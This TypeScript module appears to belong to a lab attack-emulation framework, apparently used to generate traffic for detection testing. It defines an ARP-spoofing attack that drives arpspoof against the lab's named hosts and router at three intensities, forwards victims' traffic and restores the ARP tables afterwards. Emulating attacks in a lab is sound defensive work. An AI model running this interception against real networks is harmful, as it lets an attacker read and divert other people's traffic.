import { type Attack, type Claim, intensities } from '../contracts.ts';
import { relayed, runAndRestore, whileForwarding } from './interception.ts';

/** It tells everybody the truth again, five times, a second apart. */
const restoreSeconds = 7;
const lookupPort = 67;

/**
 * arpspoof between victims and the router. Quiet: only what the victim sends is diverted; medium: both ways;
 * loud: more victims.
 */
export const arpSpoofing: Attack = {
  kind: 'arp-spoofing',
  summary: 'a host says it is the router, and passes on what it is sent',
  needs: ['arpspoof'],
  intensities,
  actor: 'guest',
  targets: ['desktop'],
  async run({ lab, intensity, actor, targets, seconds, signal }) {
    const more = intensity === 'loud' ? ['laptop', 'phone'].filter(name => lab.has(name)) : [];
    const victims = [...new Set([...targets, ...more.map(name => lab.host(name))])];
    const router = lab.host('router');
    const words = [
      ...['-i', 'eth0', '-c', 'own'],
      ...victims.flatMap(({ address }) => ['-t', address]),
      ...(intensity === 'quiet' ? [] : ['-r']),
      router.address,
    ];
    const limits = { seconds: Math.max(1, seconds - restoreSeconds), restoreSeconds, signal };
    await whileForwarding(actor, 4, () => runAndRestore(actor, 'arpspoof', words, limits));
    // It looks up where the router is by a packet that nobody wants.
    const lookup: Claim = {
      actors: [actor.address],
      targets: [router.address],
      protocol: 'udp',
      targetPorts: [lookupPort],
    };
    return { tool: 'arpspoof', arguments: words.join(' '), claims: [...relayed(actor, victims), lookup] };
  },
};
